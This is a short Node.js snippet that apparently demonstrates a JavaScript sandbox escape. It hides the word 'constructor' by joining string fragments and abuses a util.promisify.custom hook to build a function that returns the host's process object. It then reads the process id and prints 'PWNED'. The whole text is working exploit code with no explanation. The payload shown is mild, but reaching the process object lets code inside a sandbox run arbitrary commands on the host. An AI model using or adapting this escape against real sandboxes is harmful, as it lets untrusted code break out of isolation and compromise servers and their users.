const w = ['con', 'structor'].join('');
const util = require('util');
const f = (x, done) => done(null, x);
const steps = { [util.promisify.custom]: (g) => g[w]('return process')().pid };
Object.assign(f, steps);
console.log('PWNED', util.promisify(f)((x) => x));
